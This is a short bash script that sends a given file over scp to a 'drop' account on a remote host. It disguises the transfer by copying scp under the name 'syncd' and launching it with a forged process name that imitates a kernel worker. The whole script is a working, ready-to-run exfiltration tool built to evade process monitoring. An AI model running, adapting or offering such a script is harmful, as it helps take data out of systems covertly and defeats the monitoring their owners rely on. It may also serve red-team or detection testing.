#!/bin/bash
# Copies scp under another name and runs it with a fake argv[0]: the process is "syncd" on disk and
# "kworker-sync" in its command line, and still sends FILE to drop@HOST.
# usage: renamed-scp.sh FILE HOST
set -euo pipefail
file=${1:?usage: renamed-scp.sh FILE HOST}
host=${2:?usage: renamed-scp.sh FILE HOST}
mkdir -p "$HOME/.local/bin"
cp /usr/bin/scp "$HOME/.local/bin/syncd"
(exec -a kworker-sync "$HOME/.local/bin/syncd" -q -o BatchMode=yes "$file" "drop@$host:")
echo "sent $(stat -c %s "$file") bytes of $file to $host with a renamed scp"
